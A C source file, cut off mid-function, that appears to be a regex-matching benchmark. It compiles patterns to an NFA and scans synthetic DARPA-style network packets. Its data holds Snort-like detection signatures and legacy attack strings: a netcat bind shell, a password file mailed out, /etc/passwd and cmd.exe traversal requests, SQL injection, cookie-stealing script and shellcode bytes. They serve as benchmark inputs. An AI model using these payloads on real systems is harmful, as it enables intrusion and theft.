/* REGX host driver: a set of patterns compiled into one epsilon-free NFA
 * (CSR: per state its edges, each a byte range and a target), a set of input
 * strings, one launch (regx_flat, regx_cdp or regx_dtbl, one thread per
 * string) that finds, per string, which patterns match anywhere in it and
 * how many (position, accepting state) events there are; checked exactly
 * against a CPU simulation of the same NFA.
 *
 * Inputs: "darpa" (network packets, binary IP/TCP headers and protocol
 * payloads, some carrying attacks, against Snort-like signatures) and
 * "string" (random text over a four-letter alphabet against patterns made of
 * groups of many alternatives, whose states fan out widely).
 *
 * The regular expressions: literals, \xHH, \r \n \t, \d \w \s, escaped
 * punctuation, '.', classes [a-z0-9_] and [^...], groups (...), alternation
 * |, and the quantifiers * + ? {m} {m,} {m,n}. Thompson construction, then
 * epsilon removal: the kept states are each pattern's start and every target
 * of a byte edge; a kept state's edges are the byte edges of its epsilon
 * closure, and it accepts when the closure holds the pattern's end. The
 * patterns' starts are merged into state 0, which the kernels keep active at
 * every position (a match may start anywhere). */
#include <stdlib.h>
#include <string.h>

#include "workload.h"

#define REGX_THREADS 128
#define REGX_CHILD_MIN 32u
#define REGX_CHILD_BLOCK 256u
#define REGX_MAX_STATES 65536u

/* ---- Thompson NFA with epsilon edges ----------------------------------- */

typedef struct tedge {
  uint32_t to;
  int16_t lo, hi; /* lo < 0: epsilon */
} tedge;

typedef struct tnfa {
  uint32_t n, cap;
  uint32_t *head; /* per state: first edge index + 1 in a linked list, 0 none */
  tedge *e;
  uint32_t *next;
  uint32_t ne, ecap;
  int bad; /* out of memory or a syntax error */
} tnfa;

static uint32_t t_state(tnfa *t) {
  if (t->n == t->cap) {
    uint32_t cap = t->cap ? 2 * t->cap : 256;
    uint32_t *h = realloc(t->head, cap * sizeof *h);
    if (h == NULL) {
      t->bad = 1;
      return 0;
    }
    t->head = h;
    t->cap = cap;
  }
  t->head[t->n] = 0;
  return t->n++;
}

static void t_edge(tnfa *t, uint32_t from, uint32_t to, int lo, int hi) {
  if (t->bad) return;
  if (t->ne == t->ecap) {
    uint32_t cap = t->ecap ? 2 * t->ecap : 1024;
    tedge *e = realloc(t->e, cap * sizeof *e);
    uint32_t *nx = realloc(t->next, cap * sizeof *nx);
    if (e != NULL) t->e = e;
    if (nx != NULL) t->next = nx;
    if (e == NULL || nx == NULL) {
      t->bad = 1;
      return;
    }
    t->ecap = cap;
  }
  t->e[t->ne] = (tedge){to, (int16_t)lo, (int16_t)hi};
  t->next[t->ne] = t->head[from];
  t->head[from] = ++t->ne;
}

typedef struct frag {
  uint32_t in, out;
} frag;

typedef struct parser {
  const char *s;
  size_t pos;
  tnfa *t;
} parser;

static frag p_alt(parser *p);

/* A set of byte ranges as a 256-bit map. */
static void set_range(uint8_t *map, int lo, int hi) {
  for (int c = lo; c <= hi; c++) map[c] = 1;
}

static int hexval(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

/* Reads an escape after '\' into map; returns 0, or -1 on a syntax error. */
static int p_escape(parser *p, uint8_t *map) {
  char c = p->s[p->pos++];
  switch (c) {
    case 'd': set_range(map, '0', '9'); return 0;
    case 'w':
      set_range(map, '0', '9');
      set_range(map, 'a', 'z');
      set_range(map, 'A', 'Z');
      map['_'] = 1;
      return 0;
    case 's':
      map[' '] = map['\t'] = map['\r'] = map['\n'] = map['\f'] = map['\v'] = 1;
      return 0;
    case 'r': map['\r'] = 1; return 0;
    case 'n': map['\n'] = 1; return 0;
    case 't': map['\t'] = 1; return 0;
    case 'x': {
      int h = hexval(p->s[p->pos]), l = h < 0 ? -1 : hexval(p->s[p->pos + 1]);
      if (l < 0) return -1;
      p->pos += 2;
      map[h * 16 + l] = 1;
      return 0;
    }
    case '\0': return -1;
    default: map[(uint8_t)c] = 1; return 0;
  }
}

/* A fragment taking one byte of map: one edge per maximal range. */
static frag p_bytes(parser *p, const uint8_t *map) {
  frag f = {t_state(p->t), t_state(p->t)};
  for (int c = 0; c < 256;) {
    if (!map[c]) {
      c++;
      continue;
    }
    int lo = c;
    while (c < 256 && map[c]) c++;
    t_edge(p->t, f.in, f.out, lo, c - 1);
  }
  return f;
}

static frag p_atom(parser *p) {
  uint8_t map[256];
  memset(map, 0, sizeof map);
  char c = p->s[p->pos];
  if (c == '(') {
    p->pos++;
    frag f = p_alt(p);
    if (p->s[p->pos] != ')') {
      p->t->bad = 1;
      return f;
    }
    p->pos++;
    return f;
  }
  if (c == '[') {
    p->pos++;
    int neg = p->s[p->pos] == '^';
    if (neg) p->pos++;
    int first = 1;
    while (p->s[p->pos] != ']' || first) {
      first = 0;
      int lo;
      if (p->s[p->pos] == '\0') {
        p->t->bad = 1;
        return p_bytes(p, map);
      }
      if (p->s[p->pos] == '\\') {
        uint8_t one[256];
        memset(one, 0, sizeof one);
        p->pos++;
        if (p_escape(p, one) != 0) {
          p->t->bad = 1;
          return p_bytes(p, map);
        }
        int cnt = 0;
        lo = -1;
        for (int k = 0; k < 256; k++) {
          if (one[k]) {
            cnt++;
            lo = k;
          }
          map[k] |= one[k];
        }
        if (cnt != 1) continue; /* a class escape cannot start a range */
      } else {
        lo = (uint8_t)p->s[p->pos++];
        map[lo] = 1;
      }
      if (p->s[p->pos] == '-' && p->s[p->pos + 1] != ']' && p->s[p->pos + 1] != '\0') {
        p->pos++;
        int hi;
        if (p->s[p->pos] == '\\') {
          uint8_t one[256];
          memset(one, 0, sizeof one);
          p->pos++;
          if (p_escape(p, one) != 0) {
            p->t->bad = 1;
            return p_bytes(p, map);
          }
          hi = -1;
          for (int k = 0; k < 256; k++) {
            if (one[k]) hi = k;
          }
        } else {
          hi = (uint8_t)p->s[p->pos++];
        }
        if (hi < lo) {
          p->t->bad = 1;
          return p_bytes(p, map);
        }
        set_range(map, lo, hi);
      }
    }
    p->pos++;
    if (neg) {
      for (int k = 0; k < 256; k++) map[k] = !map[k];
    }
    return p_bytes(p, map);
  }
  if (c == '.') {
    p->pos++;
    set_range(map, 0, 255);
    map['\n'] = 0;
    return p_bytes(p, map);
  }
  if (c == '\\') {
    p->pos++;
    if (p_escape(p, map) != 0) p->t->bad = 1;
    return p_bytes(p, map);
  }
  if (c == '\0' || c == ')' || c == '|' || c == '*' || c == '+' || c == '?' || c == '{') {
    p->t->bad = 1;
    return (frag){t_state(p->t), t_state(p->t)};
  }
  p->pos++;
  map[(uint8_t)c] = 1;
  return p_bytes(p, map);
}

static int p_number(parser *p) {
  int v = -1;
  while (p->s[p->pos] >= '0' && p->s[p->pos] <= '9') {
    v = (v < 0 ? 0 : v * 10) + (p->s[p->pos++] - '0');
  }
  return v;
}

/* An atom with its quantifiers; a counted one is built by parsing the atom
 * again for every copy. */
static frag p_repeat(parser *p) {
  size_t at = p->pos;
  frag f = p_atom(p);
  for (;;) {
    char q = p->s[p->pos];
    if (q == '*' || q == '+' || q == '?') {
      p->pos++;
      frag g = {t_state(p->t), t_state(p->t)};
      t_edge(p->t, g.in, f.in, -1, -1);
      t_edge(p->t, f.out, g.out, -1, -1);
      if (q != '+') t_edge(p->t, g.in, g.out, -1, -1);
      if (q != '?') t_edge(p->t, f.out, f.in, -1, -1);
      f = g;
    } else if (q == '{') {
      p->pos++;
      int m = p_number(p), n = m;
      if (p->s[p->pos] == ',') {
        p->pos++;
        n = p_number(p); /* -1: unbounded */
      }
      if (m < 0 || p->s[p->pos] != '}' || (n >= 0 && n < m) || m > 1000 || n > 1000 ||
          (m == 0 && n == 0)) {
        p->t->bad = 1;
        return f;
      }
      p->pos++;
      size_t end = p->pos;
      /* f is the first copy; copies 2..m required, then optional ones or a loop. */
      frag all = f;
      int copies = n < 0 ? m : n;
      if (m == 0) {
        /* zero required: the first copy is optional */
        t_edge(p->t, all.in, all.out, -1, -1);
        if (n < 0) t_edge(p->t, f.out, f.in, -1, -1);
      }
      for (int k = 1; k < copies || (n < 0 && k == m && m > 0); k++) {
        p->pos = at;
        frag g = p_atom(p);
        t_edge(p->t, all.out, g.in, -1, -1);
        if (k >= m) t_edge(p->t, g.in, g.out, -1, -1); /* optional copy */
        if (n < 0 && k == m) t_edge(p->t, g.out, g.in, -1, -1); /* the unbounded tail */
        all.out = g.out;
      }
      p->pos = end;
      f = all;
    } else {
      return f;
    }
  }
}

static frag p_concat(parser *p) {
  frag f = {t_state(p->t), 0};
  f.out = f.in;
  while (!p->t->bad && p->s[p->pos] != '\0' && p->s[p->pos] != '|' && p->s[p->pos] != ')') {
    frag g = p_repeat(p);
    t_edge(p->t, f.out, g.in, -1, -1);
    f.out = g.out;
  }
  return f;
}

static frag p_alt(parser *p) {
  frag f = p_concat(p);
  if (p->s[p->pos] != '|') return f;
  frag g = {t_state(p->t), t_state(p->t)};
  t_edge(p->t, g.in, f.in, -1, -1);
  t_edge(p->t, f.out, g.out, -1, -1);
  while (!p->t->bad && p->s[p->pos] == '|') {
    p->pos++;
    f = p_concat(p);
    t_edge(p->t, g.in, f.in, -1, -1);
    t_edge(p->t, f.out, g.out, -1, -1);
  }
  return g;
}

/* ---- the epsilon-free NFA the kernels walk ------------------------------ */

typedef struct regx_nfa {
  uint32_t n, m, npat;
  uint32_t *row;  /* n + 1 */
  uint32_t *edge; /* m packed edges: target | lo << 16 | hi << 24 */
  int32_t *acc;   /* n */
} regx_nfa;

static void nfa_free(regx_nfa *a) {
  free(a->row);
  free(a->edge);
  free(a->acc);
  memset(a, 0, sizeof *a);
}

static int cmp_u32(const void *x, const void *y) {
  uint32_t a = *(const uint32_t *)x, b = *(const uint32_t *)y;
  return a < b ? -1 : a > b;
}

/* Compiles npat patterns; returns 0, -1 on a syntax error (*bad_pat set),
 * -2 when out of memory or over REGX_MAX_STATES states. */
static int nfa_build(regx_nfa *a, const char *const *pat, uint32_t npat, uint32_t *bad_pat) {
  memset(a, 0, sizeof *a);
  tnfa t;
  memset(&t, 0, sizeof t);
  uint32_t *pstart = malloc(npat * sizeof *pstart), *pend = malloc(npat * sizeof *pend);
  if (pstart == NULL || pend == NULL) {
    free(pstart);
    free(pend);
    return -2;
  }
  for (uint32_t k = 0; k < npat; k++) {
    parser p = {pat[k], 0, &t};
    frag f = p_alt(&p);
    if (!t.bad && pat[k][p.pos] != '\0') t.bad = 1;
    if (t.bad) {
      *bad_pat = k;
      free(pstart);
      free(pend);
      free(t.head);
      free(t.e);
      free(t.next);
      return -1;
    }
    pstart[k] = f.in;
    pend[k] = f.out;
  }
  uint32_t tn = t.n;
  int rc = 0;
  /* per Thompson state: kept-state number, 1 + the pattern it ends, closure
   * marks; the kept states in numbering order (order[0]: the merged starts) */
  uint32_t *id = malloc(tn * sizeof *id), *endof = calloc(tn, sizeof *endof);
  uint32_t *mark = calloc(tn, sizeof *mark), *stack = malloc(tn * sizeof *stack);
  uint32_t *order = malloc((tn + 1) * sizeof *order);
  uint32_t *buf = NULL, nbuf = 0, cbuf = 0;
  if (id == NULL || endof == NULL || mark == NULL || stack == NULL || order == NULL) {
    rc = -2;
    goto out;
  }
  for (uint32_t k = 0; k < npat; k++) endof[pend[k]] = k + 1;
  for (uint32_t s = 0; s < tn; s++) id[s] = UINT32_MAX;
  /* state 0: the merged starts; then kept states in order of discovery */
  uint32_t nk = 1, head = 0, stamp = 0;
  a->npat = npat;
  order[0] = UINT32_MAX;
  uint32_t rcap = 1024, ecap = 4096;
  a->row = malloc(rcap * sizeof *a->row);
  a->acc = malloc(rcap * sizeof *a->acc);
  a->edge = malloc(ecap * sizeof *a->edge);
  if (a->row == NULL || a->acc == NULL || a->edge == NULL) {
    rc = -2;
    goto out;
  }
  while (head < nk) {
    uint32_t u = order[head];
    /* epsilon closure of u (or of every pattern start, for state 0) */
    stamp++;
    uint32_t sp = 0;
    int32_t accept = -1;
    nbuf = 0;
    uint32_t nseed = u == UINT32_MAX ? npat : 1;
    for (uint32_t k = 0; k < nseed; k++) {
      uint32_t s0 = u == UINT32_MAX ? pstart[k] : u;
      if (mark[s0] != stamp) {
        mark[s0] = stamp;
        stack[sp++] = s0;
      }
      while (sp > 0) {
        uint32_t s = stack[--sp];
        for (uint32_t x = t.head[s]; x != 0; x = t.next[x - 1]) {
          tedge e = t.e[x - 1];
          if (e.lo < 0) {
            if (mark[e.to] != stamp) {
              mark[e.to] = stamp;
              stack[sp++] = e.to;
            }
            continue;
          }
          if (id[e.to] == UINT32_MAX) {
            if (nk >= REGX_MAX_STATES) {
              rc = -2;
              goto out;
            }
            id[e.to] = nk;
            order[nk++] = e.to;
          }
          if (nbuf == cbuf) {
            cbuf = cbuf ? 2 * cbuf : 1024;
            uint32_t *nb = realloc(buf, cbuf * sizeof *nb);
            if (nb == NULL) {
              rc = -2;
              goto out;
            }
            buf = nb;
          }
          buf[nbuf++] = id[e.to] | (uint32_t)e.lo << 16 | (uint32_t)e.hi << 24;
        }
        if (endof[s] != 0) accept = (int32_t)endof[s] - 1;
      }
    }
    if (u == UINT32_MAX && accept >= 0) {
      *bad_pat = (uint32_t)accept; /* a pattern that matches the empty string */
      rc = -1;
      goto out;
    }
    /* deterministic edge order: by target, then range; drop duplicates */
    qsort(buf, nbuf, sizeof *buf, cmp_u32);
    if (head + 2 > rcap) {
      rcap *= 2;
      uint32_t *r = realloc(a->row, rcap * sizeof *r);
      int32_t *ac = realloc(a->acc, rcap * sizeof *ac);
      if (r != NULL) a->row = r;
      if (ac != NULL) a->acc = ac;
      if (r == NULL || ac == NULL) {
        rc = -2;
        goto out;
      }
    }
    a->row[head] = a->m;
    a->acc[head] = accept;
    for (uint32_t x = 0; x < nbuf; x++) {
      if (x > 0 && buf[x] == buf[x - 1]) continue;
      if (a->m == ecap) {
        ecap *= 2;
        uint32_t *ne = realloc(a->edge, ecap * sizeof *ne);
        if (ne == NULL) {
          rc = -2;
          goto out;
        }
        a->edge = ne;
      }
      a->edge[a->m++] = buf[x];
    }
    head++;
  }
  a->n = nk;
  a->row[nk] = a->m;
out:
  free(id);
  free(endof);
  free(mark);
  free(stack);
  free(order);
  free(buf);
  free(pstart);
  free(pend);
  free(t.head);
  free(t.e);
  free(t.next);
  if (rc != 0) nfa_free(a);
  return rc;
}

/* ---- inputs ------------------------------------------------------------- */

typedef struct sbuf {
  uint8_t *p;
  size_t n, cap;
  int bad;
} sbuf;

static void sb_put(sbuf *b, const void *src, size_t n) {
  if (b->bad) return;
  if (b->n + n + 1 > b->cap) {
    size_t cap = b->cap ? b->cap : 4096;
    while (b->n + n + 1 > cap) cap *= 2;
    uint8_t *p = realloc(b->p, cap);
    if (p == NULL) {
      b->bad = 1;
      return;
    }
    b->p = p;
    b->cap = cap;
  }
  memcpy(b->p + b->n, src, n);
  b->n += n;
  b->p[b->n] = 0;
}

static void sb_str(sbuf *b, const char *s) { sb_put(b, s, strlen(s)); }

static void sb_byte(sbuf *b, uint32_t c) {
  uint8_t x = (uint8_t)c;
  sb_put(b, &x, 1);
}

static void sb_rep(sbuf *b, uint32_t c, uint32_t n) {
  for (uint32_t k = 0; k < n; k++) sb_byte(b, c);
}

static void sb_num(sbuf *b, uint32_t v) {
  char t[16];
  snprintf(t, sizeof t, "%u", v);
  sb_str(b, t);
}

#define PICK(r, arr) ((arr)[st_wl_rng_below((r), (uint32_t)(sizeof(arr) / sizeof(arr)[0]))])

/* Snort-like signatures of the DARPA 1998/1999 attack kinds (web CGI and IIS
 * exploits, FTP, SMTP, telnet and r-command abuse, buffer-overflow NOP sleds
 * and shell code, RPC, IRC, SQL and script injection). */
static const char *const darpa_sigs[] = {
    ("/cgi-bin/(phf|test-cgi|php\\.cgi|handler|campas|webgais|websendmail|view-source|"
     "nph-test-cgi|aglimpse|htmlscript|info2www|faxsurvey|jj|wrap|finger|count\\.cgi)"),
    "/etc/(passwd|shadow|group|hosts\\.equiv|inetd\\.conf)",
    "\\.\\./\\.\\./",
    "cmd\\.exe",
    "/bin/(sh|bash|csh|ksh|tcsh)",
    "USER (root|admin|guest|anonymous|bin|daemon)\\r\\n",
    "SITE EXEC",
    "\\x90{12}",
    "%u[0-9a-fA-F]{4}",
    "Content-Length: ?[0-9]{6,}",
    "(SELECT|UNION|INSERT|DELETE|DROP)[ +]",
    "<script",
    "xp_cmdshell",
    "rm -rf /",
    "(wget|lynx|tftp) ",
    "RCPT TO:[^\\r\\n]*@[^\\r\\n]*@",
    "HELO [^\\r\\n]{48}",
    "EXPN (root|decode|uudecode)",
    "VRFY (root|bin|daemon)",
    "Authorization: Basic [A-Za-z0-9+/=]{4,}",
    "\\xff\\xf4\\xff\\xfd\\x06",
    "PORT [0-9]+,[0-9]+,[0-9]+,[0-9]+,[0-9]+,[0-9]+",
    "CWD ~root",
    "\\.ht(access|passwd|group)",
    "/scripts/(\\.\\.%c0%af|\\.\\.%255c|root\\.exe|iisadmin|samples)",
    "/_vti_(bin|pvt|cnf)/",
    "/msadc/msadcs\\.dll",
    "\\.id[aq]\\?",
    "NICK [A-Za-z][A-Za-z0-9_]{2,8}",
    "\\x00\\x01\\x86\\xa0",
    "STOR \\.(forward|rhosts)",
    "login: (root|daemon|bin|sync)",
    "ypcat passwd",
    "xterm -display",
    "echo \\+ \\+",
    "\\xeb\\x1f\\x5e\\x89\\x76\\x08",
    "(GET|POST|HEAD) [^ ]{160,}",
    "Cookie: [^\\r\\n]*(\\.\\.|%00)",
    "/iisadmpwd/aexp[0-9]?\\.htr",
    "\\.\\.\\\\",
    "MAIL FROM:[^\\r\\n]*\\|",
    "DEBUG\\r\\n",
    "WIZ\\r\\n",
    "nc -l -p [0-9]+",
    "chmod [0-7]*777",
    "TRACE / HTTP",
    "whoami|uname -a",
};

static const char *const vocab[] = {
    "index", "news", "images", "home", "products", "docs", "mail", "search", "about", "faq",
    "pub", "users", "data", "report", "notes", "local", "share", "misc", "logo", "banner",
    "main", "archive", "src", "list", "help", "lab", "www", "staff", "project", "info"};
static const char *const hosts[] = {"pascal", "marx", "hume", "zeno", "locke", "smith",
                                    "alpha", "eagle", "falcon", "linda", "pigeon", "swallow"};
static const char *const users[] = {"alice", "bob", "carol", "dave", "erin", "frank",
                                    "grace", "heidi", "ivan", "judy", "mallory", "oscar"};
static const char *const attacks[] = {
    "GET /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd HTTP/1.0\r\n",
    "USER root\r\n",
    "SITE EXEC /bin/sh -i\r\n",
    "GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n",
    "EXPN decode\r\n",
    "echo + + > /.rhosts\n",
    "ypcat passwd | mail x@y\n",
    "xterm -display 135.13.216.191:0 &\n",
    "rm -rf /tmp/.x\n",
    "Authorization: Basic YWRtaW46YWRtaW4=\r\n",
    "CWD ~root\r\n",
    "nc -l -p 31337 -e /bin/sh\n",
    "chmod 4777 /tmp/.sh\n",
    "' UNION SELECT password FROM users--",
    "<script>alert(document.cookie)</script>",
    "GET /_vti_bin/shtml.exe HTTP/1.0\r\n",
    "GET /default.ida?NNNNNNNNNNNNNNNN%u9090%u6858 HTTP/1.0\r\n",
    "login: root\r\n",
    "STOR .rhosts\r\n",
    "RCPT TO:<a@b.com@c.org>\r\n",
    "MAIL FROM:<|/bin/sh>\r\n",
    "DEBUG\r\n",
    "GET /../../../../etc/shadow HTTP/1.0\r\n",
    "TRACE / HTTP/1.1\r\n",
    "uname -a; whoami\n",
};

/* One DARPA-like packet: a 40-byte IPv4/TCP header (binary) and a payload of
 * one service, cut at a total length of 96..480 bytes. */
static void darpa_packet(sbuf *b, st_wl_rng *r) {
  size_t start = b->n;
  static const uint32_t ports[] = {80, 80, 80, 80, 80, 21, 21, 25, 25, 23, 6667, 111};
  uint32_t port = PICK(r, ports);
  uint32_t kind = st_wl_rng_below(r, 20);
  /* header: version/IHL, TOS, length, id, flags, TTL, protocol, checksum, addresses */
  sb_byte(b, 0x45);
  sb_byte(b, 0);
  sb_byte(b, 1);
  sb_byte(b, st_wl_rng_below(r, 256));
  sb_byte(b, st_wl_rng_below(r, 256));
  sb_byte(b, st_wl_rng_below(r, 256));
  sb_byte(b, 0x40);
  sb_byte(b, 0);
  sb_byte(b, st_wl_rng_below(r, 2) ? 64 : 255);
  sb_byte(b, 6);
  sb_byte(b, st_wl_rng_below(r, 256));
  sb_byte(b, st_wl_rng_below(r, 256));
  sb_byte(b, 172);
  sb_byte(b, 16);
  sb_byte(b, 112 + st_wl_rng_below(r, 4));
  sb_byte(b, st_wl_rng_below(r, 256));
  sb_byte(b, 192);
  sb_byte(b, 168);
  sb_byte(b, 1);
  sb_byte(b, st_wl_rng_below(r, 256));
  uint32_t sport = 1024 + st_wl_rng_below(r, 60000);
  sb_byte(b, sport >> 8);
  sb_byte(b, sport & 255);
  sb_byte(b, port >> 8);
  sb_byte(b, port & 255);
  for (int k = 0; k < 8; k++) sb_byte(b, st_wl_rng_below(r, 256)); /* seq, ack */
  sb_byte(b, 0x50);
  sb_byte(b, 0x18);
  sb_byte(b, 0x7d);
  sb_byte(b, 0x78);
  sb_byte(b, st_wl_rng_below(r, 256));
  sb_byte(b, st_wl_rng_below(r, 256));
  sb_byte(b, 0);
  sb_byte(b, 0);
  int attack = st_wl_rng_below(r, 5) == 0;
  if (kind == 0) {
    /* binary payload */
    uint32_t n = 64 + st_wl_rng_below(r, 320);
    for (uint32_t k = 0; k < n; k++) sb_byte(b, st_wl_rng_below(r, 256));
  } else if (port == 80) {
    sb_str(b, st_wl_rng_below(r, 4) ? "GET /" : "POST /");
    uint32_t depth = 1 + st_wl_rng_below(r, 3);
    for (uint32_t k = 0; k < depth; k++) {
      sb_str(b, PICK(r, vocab));
      sb_str(b, k + 1 < depth ? "/" : ".html");
    }
    sb_str(b, " HTTP/1.0\r\nHost: www.");
    sb_str(b, PICK(r, hosts));
    sb_str(b, ".com\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 5.0; Windows 98)\r\n");
    sb_str(b, "Accept: */*\r\n");
    if (st_wl_rng_below(r, 2)) {
      sb_str(b, "Cookie: id=");
      sb_num(b, st_wl_rng_below(r, 1000000));
      sb_str(b, "\r\n");
    }
    sb_str(b, "\r\n");
  } else if (port == 21) {
    sb_str(b, "USER ");
    sb_str(b, PICK(r, users));
    sb_str(b, "\r\nPASS ");
    sb_str(b, PICK(r, vocab));
    sb_num(b, st_wl_rng_below(r, 100));
    sb_str(b, "\r\nCWD /pub/");
    sb_str(b, PICK(r, vocab));
    sb_str(b, "\r\nPORT 172,16,112,");
    sb_num(b, st_wl_rng_below(r, 256));
    sb_str(b, ",4,");
    sb_num(b, st_wl_rng_below(r, 256));
    sb_str(b, "\r\nRETR ");
    sb_str(b, PICK(r, vocab));
    sb_str(b, ".tar.gz\r\nQUIT\r\n");
  } else if (port == 25) {
    sb_str(b, "HELO ");
    sb_str(b, PICK(r, hosts));
    sb_str(b, ".eyrie.af.mil\r\nMAIL FROM:<");
    sb_str(b, PICK(r, users));
    sb_str(b, "@");
    sb_str(b, PICK(r, hosts));
    sb_str(b, ".com>\r\nRCPT TO:<");
    sb_str(b, PICK(r, users));
    sb_str(b, "@");
    sb_str(b, PICK(r, hosts));
    sb_str(b, ".eyrie.af.mil>\r\nDATA\r\nSubject: ");
    sb_str(b, PICK(r, vocab));
    sb_str(b, "\r\n\r\n");
    uint32_t n = 4 + st_wl_rng_below(r, 30);
    for (uint32_t k = 0; k < n; k++) {
      sb_str(b, PICK(r, vocab));
      sb_str(b, k % 8 == 7 ? "\r\n" : " ");
    }
    sb_str(b, "\r\n.\r\n");
  } else if (port == 23) {
    static const uint8_t iac[] = {0xff, 0xfb, 0x01, 0xff, 0xfd, 0x03, 0xff, 0xfb, 0x18};
    sb_put(b, iac, sizeof iac);
    sb_str(b, "login: ");
    sb_str(b, PICK(r, users));
    sb_str(b, "\r\nPassword:\r\n");
    static const char *const cmds[] = {"ls -la\r\n", "cd /tmp\r\n", "cat notes.txt\r\n",
                                       "pine\r\n", "ps -ef\r\n", "df -k\r\n", "exit\r\n"};
    uint32_t n = 2 + st_wl_rng_below(r, 8);
    for (uint32_t k = 0; k < n; k++) sb_str(b, PICK(r, cmds));
  } else if (port == 6667) {
    sb_str(b, "NICK ");
    sb_str(b, PICK(r, users));
    sb_str(b, "\r\nUSER ");
    sb_str(b, PICK(r, users));
    sb_str(b, " 0 * :");
    sb_str(b, PICK(r, vocab));
    sb_str(b, "\r\nJOIN #");
    sb_str(b, PICK(r, vocab));
    sb_str(b, "\r\n");
  } else {
    static const uint8_t rpc[] = {0x80, 0, 0, 0x28, 0x3a, 0x1c, 0x0f, 0x11, 0, 0, 0, 0,
                                  0, 0, 0, 2, 0, 1, 0x86, 0xa0, 0, 0, 0, 2, 0, 0, 0, 3};
    sb_put(b, rpc, sizeof rpc);
    uint32_t n = 16 + st_wl_rng_below(r, 64);
    for (uint32_t k = 0; k < n; k++) sb_byte(b, st_wl_rng_below(r, 256));
  }
  if (attack) {
    uint32_t a = st_wl_rng_below(r, (uint32_t)(sizeof attacks / sizeof attacks[0]) + 3);
    if (a == sizeof attacks / sizeof attacks[0]) {
      sb_rep(b, 0x90, 16 + st_wl_rng_below(r, 48)); /* NOP sled and shell code */
      static const uint8_t sc[] = {0xeb, 0x1f, 0x5e, 0x89, 0x76, 0x08, 0x31, 0xc0, 0x88};
      sb_put(b, sc, sizeof sc);
    } else if (a == sizeof attacks / sizeof attacks[0] + 1) {
      sb_str(b, "HELO ");
      sb_rep(b, 'A', 40 + st_wl_rng_below(r, 40));
      sb_str(b, "\r\n");
    } else if (a == sizeof attacks / sizeof attacks[0] + 2) {
      sb_str(b, "GET /");
      sb_rep(b, 'A', 150 + st_wl_rng_below(r, 40));
      sb_str(b, " HTTP/1.0\r\n");
    } else {
      sb_str(b, attacks[a]);
    }
  }
  size_t cap = 96 + st_wl_rng_below(r, 385);
  if (!b->bad && b->n - start > cap) b->n = start + cap;
}

/* "string": patterns of three groups of alternatives (words of 3..5 letters
 * over "acgt"), the first of 6..10 words, the others of 33..48, some with a
 * class or a wildcard between groups; strings of uniform random letters. */
#define STRING_PATTERNS 6
static const char alpha[] = "acgt";

static void string_group(sbuf *b, st_wl_rng *r, uint32_t n) {
  sb_byte(b, '(');
  for (uint32_t k = 0; k < n; k++) {
    if (k > 0) sb_byte(b, '|');
    uint32_t len = 3 + st_wl_rng_below(r, 3);
    for (uint32_t j = 0; j < len; j++) sb_byte(b, alpha[st_wl_rng_below(r, 4)]);
  }
  sb_byte(b, ')');
}

static void string_pattern(sbuf *b, st_wl_rng *r, uint32_t k) {
  string_group(b, r, 6 + st_wl_rng_below(r, 5));
  if (k % 3 == 1) sb_str(b, "[ag]+");
  string_group(b, r, 33 + st_wl_rng_below(r, 16));
  if (k % 3 == 2) sb_str(b, ".{1,2}");
  string_group(b, r, 33 + st_wl_rng_below(r, 16));
}

/* ---- CPU reference ------------------------------------------------------ */

typedef struct regx_stats {
  uint64_t positions;      /* bytes scanned */
  uint64_t active;         /* (position, active state) pairs, state 0 included */
  uint64_t edges;          /* edges examined */
  uint64_t children;       /* (position, state) pairs with >= REGX_CHILD_MIN edges */
  uint64_t child_threads;  /* their threads, rounded up to warps */
  uint64_t child_edges;    /* their edges */
  uint32_t strings_matching;
  uint32_t max_len;
} regx_stats;

/* The kernels' walk on `threads` host threads, one string per iteration of a
 * dynamically scheduled loop: per position the list of active states (state
 * 0 always among them; the next position's list built from the edges that
 * take the byte, each state once), accepting states recorded when found in
 * it. The per-string results do not depend on the order of the states, nor
 * on the thread; the statistics are integer sums (st may be NULL). Returns 0,
 * or -1 when out of memory. */
static int cpu_regx(const regx_nfa *a, const uint8_t *text, const uint32_t *off, uint32_t nstr,
                    uint32_t pwords, uint32_t *match, uint32_t *hits, regx_stats *st,
                    int threads) {
  int nomem = 0, ns = (int)nstr;
  if (st != NULL) memset(st, 0, sizeof *st);
#pragma omp parallel num_threads(threads) reduction(| : nomem)
  {
    /* cur, nxt: the lists; mark[v] == stamp: v is in the list being built */
    uint32_t *cur = malloc(a->n * sizeof *cur), *nxt = malloc(a->n * sizeof *nxt);
    uint32_t *mark = calloc(a->n, sizeof *mark), stamp = 0;
    regx_stats my;
    memset(&my, 0, sizeof my);
#pragma omp for schedule(dynamic)
    for (int i = 0; i < ns; i++) {
      if (cur == NULL || nxt == NULL || mark == NULL) {
        nomem = 1;
        continue;
      }
      uint32_t len = off[i + 1] - off[i];
      const uint8_t *s = text + off[i];
      uint32_t *mw = match + (size_t)i * pwords;
      memset(mw, 0, pwords * sizeof *mw);
      uint32_t nhits = 0, ncur = 0;
      if (++stamp == 0) { /* wrapped: start the marks again */
        memset(mark, 0, a->n * sizeof *mark);
        stamp = 1;
      }
      if (st != NULL) {
        my.positions += len;
        my.max_len = len > my.max_len ? len : my.max_len;
      }
      for (uint32_t q = 0; q <= len; q++) {
        if (mark[0] != stamp) cur[ncur++] = 0; /* state 0 is active at every position */
        if (++stamp == 0) {
          memset(mark, 0, a->n * sizeof *mark);
          stamp = 1;
        }
        uint32_t nn = 0;
        for (uint32_t k = 0; k < ncur; k++) {
          uint32_t v = cur[k];
          if (a->acc[v] >= 0) {
            nhits++;
            mw[a->acc[v] >> 5] |= 1u << (a->acc[v] & 31);
          }
          if (q == len) continue;
          uint32_t deg = a->row[v + 1] - a->row[v];
          if (st != NULL) {
            my.active++;
            my.edges += deg;
            if (deg >= REGX_CHILD_MIN) {
              my.children++;
              my.child_threads += (deg + 31) & ~31u;
              my.child_edges += deg;
            }
          }
          for (uint32_t e = a->row[v]; e < a->row[v + 1]; e++) {
            uint32_t ed = a->edge[e], d = ed & 0xffff;
            if (s[q] >= ((ed >> 16) & 0xff) && s[q] <= ed >> 24 && mark[d] != stamp) {
              mark[d] = stamp;
              nxt[nn++] = d;
            }
          }
        }
        uint32_t *t = cur;
